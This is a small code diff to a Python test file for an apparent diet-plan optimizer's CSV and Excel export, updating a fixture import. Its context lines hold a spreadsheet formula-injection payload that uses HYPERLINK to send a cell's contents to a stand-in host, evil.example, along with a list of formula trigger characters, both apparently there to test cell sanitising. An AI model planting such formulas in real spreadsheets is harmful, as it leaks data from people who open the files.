@@ -15,7 +15,7 @@ import pytest
 from optimizer.dietitian.batch import BatchOutcome, BatchResult, write_batch_outputs
 from optimizer.io.cells import safe_frame, safe_text
 from optimizer.io.export import plan_to_csv, plan_to_excel_bytes
-from tests.optimizer.test_storage import make_plan
+from tests.optimizer.conftest import sample_plan as make_plan
 
 EVIL_FOOD = '=HYPERLINK("http://evil.example/?leak="&A1,"Oats")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
